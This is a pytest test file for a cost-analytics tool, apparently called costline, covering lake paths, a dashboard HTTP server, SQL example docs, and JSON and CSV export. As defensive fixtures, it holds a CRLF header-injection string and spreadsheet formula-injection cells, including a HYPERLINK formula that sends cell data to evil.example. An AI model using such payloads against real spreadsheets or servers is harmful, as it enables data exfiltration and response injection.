"""What analysts and dashboard viewers type or open: lake paths, and the dashboard server's odd clients."""

from __future__ import annotations

import socket
import time
from pathlib import Path

import pytest

from costline.config import Config, LakeConfig
from costline.dashboards import DashboardServer
from costline.errors import LakeError
from costline.lake import Lake, open_lake


def _requests_in(path: Path) -> int:
    con = open_lake(Config(lake=LakeConfig(path=path)))
    try:
        return con.execute("SELECT count(*) FROM requests_raw").fetchone()[0]
    finally:
        con.close()


@pytest.mark.parametrize("name", ["with space", "it's", "br{a,b}"])
def test_lake_paths_with_odd_but_harmless_characters_open(tmp_path: Path, name: str) -> None:
    assert _requests_in(tmp_path / name) == 0


@pytest.mark.parametrize("name", ["lake*", "lake?", "lake[1]", "back\\slash"])
def test_lake_path_with_glob_characters_is_refused_not_misread(tmp_path: Path, name: str) -> None:
    # A glob character in the lake's folder would make the views read other folders too (lake* also
    # reads lake-old) or fail with DuckDB's IO error: say so instead.
    Lake(tmp_path / "lake-old").init()
    with pytest.raises(LakeError, match="glob"):
        _requests_in(tmp_path / name)


def _port(server: DashboardServer) -> int:
    return int(server.url.rsplit(":", 1)[1].strip("/"))


def _raw(port: int, request: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as c:
        c.sendall(request)
        data = b""
        while chunk := c.recv(65536):
            data += chunk
        return data


def test_dashboard_500_keeps_a_multiline_error_out_of_the_status_line_and_headers() -> None:
    def broken() -> str:  # DuckDB's errors span lines ("IO Error: ...\n\nLINE 4: ...")
        raise RuntimeError("IO Error: no files\r\nX-Injected: yes\r\n\r\nLINE 4: <script>")

    with DashboardServer(Config(), port=0, build=broken) as server:
        port = _port(server)
        resp = _raw(port, f"GET / HTTP/1.1\r\nHost: localhost:{port}\r\nConnection: close\r\n\r\n".encode())
    head, _, body = resp.partition(b"\r\n\r\n")
    status, *headers = head.split(b"\r\n")
    assert status.startswith(b"HTTP/1.0 500 ") and b"\n" not in status
    assert not any(h.lower().startswith(b"x-injected") for h in headers)
    assert b"IO Error: no files" in body and b"<script>" not in body


def test_dashboard_server_drops_a_client_that_sends_nothing() -> None:
    from costline.dashboards.settings import DashboardConfig

    with DashboardServer(Config(dashboard=DashboardConfig(idle_timeout_s=0.5)), port=0,
                         build=lambda: "<p>costs</p>") as server:
        with socket.create_connection(("127.0.0.1", _port(server)), timeout=10) as idle:
            t0 = time.monotonic()
            assert idle.recv(100) == b""  # closed by the server, not held open forever
            assert time.monotonic() - t0 < 5


def test_dashboard_server_closes_idle_connections_by_default() -> None:
    from costline.dashboards.settings import DashboardConfig

    assert 0 < DashboardConfig().idle_timeout_s <= 120


def test_dashboard_answers_head_like_get_without_a_body() -> None:
    with DashboardServer(Config(), port=0, build=lambda: "<p>costs</p>") as server:
        port = _port(server)
        resp = _raw(port, f"HEAD / HTTP/1.0\r\nHost: localhost:{port}\r\n\r\n".encode())
    head, _, body = resp.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.0 200") and b"Content-Length: 12" in head and body == b""


def test_sql_json_output_is_valid_json_whatever_the_values_and_keeps_every_column() -> None:
    """`costline sql --format json`: NaN and infinities were written bare (a JSON parser refuses them), a repeated
    column name kept only the last value, a DECIMAL came out as a string."""
    import decimal
    import json as _json

    from costline.processors.cli import format_result

    out = format_result(["x", "x", "d", "inf"], [(float("nan"), 1, decimal.Decimal("1.50"), float("-inf"))], "json")
    assert _json.loads(out, parse_constant=lambda c: pytest.fail(f"not JSON: {c}")) == [
        {"x": None, "x_2": 1, "d": 1.5, "inf": None}]


# --- docs/sql.md: every example runs, and the ones that look back from now or join on ids get it right ------------
DOCS_SQL = Path(__file__).resolve().parents[1] / "docs" / "sql.md"


def _doc_examples() -> list[str]:
    import re

    return re.findall(r"```sql\n(.*?)```", DOCS_SQL.read_text(encoding="utf-8"), re.S)


def _doc_example(marker: str) -> str:
    [found] = [b for b in _doc_examples() if marker in b]
    return found


@pytest.fixture(scope="module")
def demo_config(tmp_path_factory: pytest.TempPathFactory) -> Config:
    from lakes import demo_lake

    return demo_lake(tmp_path_factory.mktemp("demo") / "lake", days=8, per_day=120)


def test_every_docs_sql_example_runs_on_a_real_lake(demo_config: Config) -> None:
    examples = _doc_examples()
    assert len(examples) >= 5
    con = open_lake(demo_config)
    try:
        for sql in examples:
            con.execute(sql).fetchall()  # raises, naming the example's error, if one no longer runs
    finally:
        con.close()


def _us(t) -> int:
    import datetime as dt

    return int(t.replace(tzinfo=dt.UTC).timestamp() * 1_000_000)


def _commit(config: Config, requests=(), lookups=()) -> None:
    from costline.processors.buffer import rows_to_tables

    tables = {}
    if requests:
        tables["requests"] = rows_to_tables("requests", list(requests))
    if lookups:
        tables["lookups"] = rows_to_tables("lookups", list(lookups))
    Lake(config.lake.path).init().commit_batch("otlp_spans", 0, 0, 0, tables)


def _req(request_id: str, trace: str, span: str, ts, tenant: str = "acme", tier: str = "mid",
         rejected: str | None = None):
    from costline.processors.records import RequestRow

    return RequestRow(request_id, trace, span, _us(ts), tenant, "faq", "x", tier, tier, False, 1, 0, True, None, 5.0,
                      None, None, 0, 0, None, rejected, "app")


def test_docs_bypass_share_joins_lookups_on_trace_and_request_id(tmp_path: Path) -> None:
    """Two tenants' apps both number their requests req-1 (costline.request.id is only unique in a trace); only
    tenant-a's request made a cache lookup. By hand: tenant-a bypass 0, tenant-b bypass 1."""
    import datetime as dt

    from costline.processors.records import LookupRow

    at = dt.datetime(2026, 11, 7, 10)
    config = Config(lake=LakeConfig(path=tmp_path / "lake"))
    _commit(config, [_req("req-1", "t-a", "aaaa000000000001", at, "tenant-a"),
                     _req("req-1", "t-b", "bbbb000000000001", at, "tenant-b")],
            [LookupRow("l1", "t-a", "aaaa000000000001", None, _us(at), "tenant-a", None, False, 0.5, 1.0, 0, 0, None,
                       None, None)])
    con = open_lake(config)
    try:
        rows = con.execute(_doc_example("bypass_share")).fetchall()
    finally:
        con.close()
    assert [(tenant, n, skipped, share) for _day, tenant, n, skipped, share in rows] == [
        ("tenant-a", 1, 0, 0.0), ("tenant-b", 1, 1, 1.0)]


def test_docs_last_day_examples_look_back_from_now_in_utc_in_the_plain_duckdb_cli_too(tmp_path: Path) -> None:
    """One student request an hour over the last 30 hours (UTC), two of them (in different traces, both numbered
    req-1 by their apps) escalated from the student. In a plain duckdb session on costline.duckdb whose time zone
    is Tokyo's (UTC+9) or Los Angeles', the "last day" example still finds the 24 of the last 24 hours, and the
    escalation example counts 2 requests, not 1."""
    import datetime as dt

    import duckdb

    from costline.lake import write_views_db

    now = dt.datetime.now(dt.UTC).replace(tzinfo=None)
    config = Config(lake=LakeConfig(path=tmp_path / "lake"))
    reqs = [_req(f"r{h}", f"t{h}", f"s{h:015d}", now - dt.timedelta(hours=h, minutes=1), tier="student")
            for h in range(30)]
    reqs += [_req("req-1", f"te{k}", f"e{k:015d}", now - dt.timedelta(hours=2), tier="mid",
                  rejected="student:validator") for k in range(2)]
    _commit(config, reqs)
    db = write_views_db(config)
    last_day = _doc_example("tier = 'student' AND ts >=")
    escalations = _doc_example("count(DISTINCT")
    for zone in ("Asia/Tokyo", "America/Los_Angeles", "UTC"):
        con = duckdb.connect(str(db), read_only=True)
        try:
            con.execute(f"SET TimeZone = '{zone}'")
            assert len(con.execute(last_day).fetchall()) == 24, zone
            [(routed, failed, problem, attempts, requests, _cost)] = con.execute(escalations).fetchall()
            assert (routed, failed, problem, attempts, requests) == ("mid", "student", "validator", 2, 2), zone
        finally:
            con.close()


# --- costline sql --format csv: a cell a spreadsheet would run is written as text ---------------------------------
@pytest.mark.parametrize("cell, written", [
    ('=HYPERLINK("http://evil.example/?"&A1,"acme")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""acme"")"'),
    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("acme", "acme"), ("a=b", "a=b"), ("", ""),
])
def test_sql_csv_prefixes_text_that_a_spreadsheet_would_run_as_a_formula(cell: str, written: str) -> None:
    from costline.processors.cli import format_result

    assert format_result(["tenant", "n"], [(cell, -5)], "csv") == f"tenant,n\n{written},-5"


def test_sql_csv_formulas_flag_writes_cells_as_they_are(tmp_path: Path) -> None:
    import datetime as dt

    from click.testing import CliRunner

    from costline.cli import _register_area_commands, cli

    _register_area_commands()
    config_lake = tmp_path / "lake"
    _commit(Config(lake=LakeConfig(path=config_lake)), [_req("r1", "t1", "s000000000000001",
                                                             dt.datetime(2026, 11, 7, 10), "=1+1")])
    env = {"COSTLINE_LAKE_PATH": str(config_lake)}
    query = "SELECT tenant, -1 AS n FROM requests"
    guarded = CliRunner().invoke(cli, ["sql", "--format", "csv", query], env=env)
    raw = CliRunner().invoke(cli, ["sql", "--format", "csv", "--csv-formulas", query], env=env)
    assert (guarded.exit_code, guarded.output) == (0, "tenant,n\n'=1+1,-1\n")
    assert (raw.exit_code, raw.output) == (0, "tenant,n\n=1+1,-1\n")
    help_text = CliRunner().invoke(cli, ["sql", "--help"]).output
    assert "--csv-formulas" in help_text and "--format csv --csv-formulas" in help_text
